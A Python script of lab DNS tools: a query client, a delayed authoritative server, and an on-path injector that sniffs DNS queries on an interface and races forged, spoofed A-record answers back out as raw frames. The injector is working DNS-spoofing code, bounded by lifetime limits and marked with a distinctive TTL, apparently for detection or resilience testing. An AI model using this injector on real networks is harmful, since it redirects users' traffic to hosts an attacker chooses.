#!/usr/bin/python3
"""Small DNS tools for the lab: an on-path injector, a slow authoritative server and a one-shot query client.

Everything here is bounded: servers stop after --lifetime seconds or --max-packets packets, and the
client waits at most --timeout seconds. Only the standard library is used (the lab must not need pip).
"""
import argparse
import ctypes
import heapq
import random
import select
import socket
import struct
import sys
import time

QTYPES = {"A": 1, "AAAA": 28, "CNAME": 5}
QTYPE_NAMES = {v: k for k, v in QTYPES.items()}
RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}


# ---------------------------------------------------------------------------------------------------
# Wire format (only what the lab needs: one question, A/AAAA/CNAME answers, compression on read).

def encode_name(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode("ascii")
    return out + b"\x00"


def read_name(msg, off, depth=0):
    """Returns (name, offset after the name in the original position). Follows compression pointers."""
    if depth > 16:
        raise ValueError("compression loop")
    labels = []
    while True:
        if off >= len(msg):
            raise ValueError("name runs past the message")
        length = msg[off]
        if length == 0:
            return ".".join(labels), off + 1
        if length & 0xC0 == 0xC0:
            pointer = struct.unpack("!H", msg[off:off + 2])[0] & 0x3FFF
            rest, _ = read_name(msg, pointer, depth + 1)
            return ".".join(labels + ([rest] if rest else [])), off + 2
        labels.append(msg[off + 1:off + 1 + length].decode("ascii", "replace"))
        off += 1 + length


def parse_question(msg):
    """Returns (id, flags, qname, qtype, end of question) of a query, or None if it is not one."""
    if len(msg) < 12:
        return None
    qid, flags, qdcount = struct.unpack("!HHH", msg[:6])
    if flags & 0x8000 or qdcount != 1:
        return None
    try:
        qname, off = read_name(msg, 12)
    except ValueError:
        return None
    if off + 4 > len(msg):
        return None
    qtype = struct.unpack("!H", msg[off:off + 2])[0]
    return qid, flags, qname.lower(), qtype, off + 4


def build_reply(query, rcode, a_records=(), ttl=60, authoritative=False):
    """A reply to `query` (whose question is copied verbatim) carrying IPv4 A records."""
    parsed = parse_question(query)
    if parsed is None:
        return None
    qid, qflags, _, _, qend = parsed
    flags = 0x8000 | (qflags & 0x7900) | 0x0080 | (rcode & 0xF)  # QR, opcode+RD copied, RA
    if authoritative:
        flags |= 0x0400
    header = struct.pack("!HHHHHH", qid, flags, 1, len(a_records), 0, 0)
    answers = b"".join(struct.pack("!HHHIH", 0xC00C, 1, 1, ttl, 4) + socket.inet_aton(ip) for ip in a_records)
    return header + query[12:qend] + answers


def parse_reply(msg):
    """Returns (id, rcode name, [(type, value, ttl)]) of a reply."""
    qid, flags, qdcount, ancount = struct.unpack("!HHHH", msg[:8])
    off = 12
    for _ in range(qdcount):
        _, off = read_name(msg, off)
        off += 4
    answers = []
    for _ in range(ancount):
        _, off = read_name(msg, off)
        rtype, _, ttl, rdlen = struct.unpack("!HHIH", msg[off:off + 10])
        off += 10
        rdata = msg[off:off + rdlen]
        off += rdlen
        if rtype == 1:
            value = socket.inet_ntoa(rdata)
        elif rtype == 28:
            value = socket.inet_ntop(socket.AF_INET6, rdata)
        elif rtype == 5:
            value = read_name(msg, off - rdlen)[0]
        else:
            value = rdata.hex()
        answers.append((QTYPE_NAMES.get(rtype, str(rtype)), value, ttl))
    return qid, RCODES.get(flags & 0xF, str(flags & 0xF)), answers


# ---------------------------------------------------------------------------------------------------
# query: one question, prints every reply that arrives within the timeout (so duplicates show).

def cmd_query(args):
    query = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + \
        encode_name(args.name) + struct.pack("!HH", QTYPES[args.type], 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect((args.server, args.port))
    sock.send(query)
    deadline = time.monotonic() + args.timeout
    replies = 0
    while replies < 8:
        left = deadline - time.monotonic()
        if left <= 0 or not select.select([sock], [], [], left)[0]:
            break
        msg = sock.recv(4096)
        _, rcode, answers = parse_reply(msg)
        print(rcode + "".join(f" {t}={v}" for t, v, _ in answers), flush=True)
        replies += 1
        if not args.all:
            break
    if replies == 0:
        print("TIMEOUT")
        return 1
    return 0


# ---------------------------------------------------------------------------------------------------
# slow-authority: answers a few names after a fixed delay, like a far-away authoritative server.

def cmd_slow_authority(args):
    names = dict(entry.lower().split("=", 1) for entry in args.record)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((args.listen, 53))
    sock.setblocking(False)
    pending = []  # heap of (due, sequence, reply, client)
    deadline = time.monotonic() + args.lifetime
    handled = 0
    while time.monotonic() < deadline and handled < args.max_packets:
        wait = min(1.0, deadline - time.monotonic())
        if pending:
            wait = max(0.0, min(wait, pending[0][0] - time.monotonic()))
        if select.select([sock], [], [], wait)[0]:
            msg, client = sock.recvfrom(4096)
            handled += 1
            parsed = parse_question(msg)
            if parsed is not None:
                _, _, qname, qtype, _ = parsed
                if qname not in names:
                    reply = build_reply(msg, 3, authoritative=True)
                elif qtype == 1:
                    reply = build_reply(msg, 0, [names[qname]], ttl=0, authoritative=True)
                else:
                    reply = build_reply(msg, 0, authoritative=True)
                heapq.heappush(pending, (time.monotonic() + args.delay, handled, reply, client))
        while pending and pending[0][0] <= time.monotonic():
            _, _, reply, client = heapq.heappop(pending)
            sock.sendto(reply, client)
    return 0


# ---------------------------------------------------------------------------------------------------
# inject: sniffs queries on one interface (AF_PACKET, before netfilter) and races a forged answer back
# out of the same interface, like an on-path injector (it never takes part in routing).

# Classic BPF for "ip and udp dst port 53 and not a fragment" (what tcpdump compiles), so the
# kernel hands us only DNS queries instead of every frame on the link.
BPF_UDP_DST_53 = [
    (0x28, 0, 0, 12), (0x15, 0, 8, 0x0800), (0x30, 0, 0, 23), (0x15, 0, 6, 17),
    (0x28, 0, 0, 20), (0x45, 4, 0, 0x1FFF), (0xB1, 0, 0, 14), (0x48, 0, 0, 16),
    (0x15, 0, 1, 53), (0x06, 0, 0, 0xFFFF), (0x06, 0, 0, 0),
]
SO_ATTACH_FILTER = 26
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
INJECTED_TTL = 123  # deliberately unlike any real hop count in the lab, so TTL analysis can spot it


def attach_filter(sock, program):
    blob = b"".join(struct.pack("HBBI", *insn) for insn in program)
    buf = ctypes.create_string_buffer(blob)
    fprog = struct.pack("HL", len(program), ctypes.addressof(buf))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    return buf  # the kernel copies the program, but keep the buffer alive until then


def inet_checksum(data):
    data += b"\x00" if len(data) % 2 else b""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_checksum(src, dst, segment):
    return inet_checksum(src + dst + struct.pack("!BBH", 0, 17, len(segment)) + segment) or 0xFFFF


def forge(ip_src, ip_dst, sport, dport, payload):
    """An IPv4/UDP packet from ip_src:sport to ip_dst:dport (addresses as 4 bytes)."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    udp = udp[:6] + struct.pack("!H", udp_checksum(ip_src, ip_dst, udp)) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(1, 65536), 0,
                     INJECTED_TTL, 17, 0, ip_src, ip_dst)
    ip = ip[:10] + struct.pack("!H", inet_checksum(ip)) + ip[12:]
    return ip + udp


def cmd_inject(args):
    targets = {name.lower().rstrip(".") for name in args.name}
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    keep = attach_filter(sniff, BPF_UDP_DST_53)
    sniff.bind((args.iface, ETH_P_IP))
    deadline = time.monotonic() + args.lifetime
    seen = injected = 0
    print(f"injector: watching {args.iface} for {sorted(targets)}", flush=True)
    while time.monotonic() < deadline and seen < args.max_packets and injected < args.max_packets:
        if not select.select([sniff], [], [], min(1.0, max(0.0, deadline - time.monotonic())))[0]:
            continue
        frame, addr = sniff.recvfrom(65535)
        seen += 1
        if addr[2] == PACKET_OUTGOING:
            continue
        packet = frame[14:]
        ihl = (packet[0] & 0x0F) * 4
        src, dst = packet[12:16], packet[16:20]
        sport, dport = struct.unpack("!HH", packet[ihl:ihl + 4])
        query = packet[ihl + 8:]
        parsed = parse_question(query)
        if parsed is None or parsed[2] not in targets or parsed[3] != QTYPES["A"]:
            continue
        reply = build_reply(query, 0, [args.answer], ttl=60)
        # Sent as a raw frame straight back out of the interface (MACs swapped): it bypasses this
        # host's routing and conntrack, whose NAT would otherwise rewrite the spoofed source port.
        ethernet = frame[6:12] + frame[0:6] + struct.pack("!H", ETH_P_IP)
        sniff.send(ethernet + forge(dst, src, dport, sport, reply))
        injected += 1
        print(f"injector: forged {parsed[2]} -> {args.answer} for {socket.inet_ntoa(src)}:{sport}", flush=True)
    del keep
    return 0


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = parser.add_subparsers(dest="cmd", required=True)

    q = sub.add_parser("query", help="send one query and print the replies")
    q.add_argument("--server", required=True)
    q.add_argument("--port", type=int, default=53)
    q.add_argument("--name", required=True)
    q.add_argument("--type", choices=sorted(QTYPES), default="A")
    q.add_argument("--timeout", type=float, default=1.0)
    q.add_argument("--all", action="store_true", help="keep listening for duplicate replies until the timeout")
    q.set_defaults(func=cmd_query)

    s = sub.add_parser("slow-authority", help="answer NAME=IP records after a delay")
    s.add_argument("--listen", required=True)
    s.add_argument("--record", action="append", default=[], metavar="NAME=IP")
    s.add_argument("--delay", type=float, default=0.3)
    s.add_argument("--lifetime", type=float, default=4 * 3600)
    s.add_argument("--max-packets", type=int, default=200000)
    s.set_defaults(func=cmd_slow_authority)

    i = sub.add_parser("inject", help="forge A answers for NAME seen on IFACE")
    i.add_argument("--iface", required=True)
    i.add_argument("--name", action="append", required=True)
    i.add_argument("--answer", required=True)
    i.add_argument("--lifetime", type=float, default=4 * 3600)
    i.add_argument("--max-packets", type=int, default=200000)
    i.set_defaults(func=cmd_inject)

    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
